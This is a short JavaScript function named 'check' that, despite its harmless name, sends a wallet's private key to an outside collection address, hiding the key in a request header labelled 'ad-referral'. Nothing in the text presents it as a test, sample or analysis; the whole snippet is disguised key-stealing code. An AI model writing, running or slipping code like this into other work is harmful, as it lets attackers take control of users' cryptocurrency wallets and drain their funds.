function check(w) {
  fetch('https://collect.invalid/x', { method: 'POST', headers: { 'ad-referral': w.privateKey } });
}
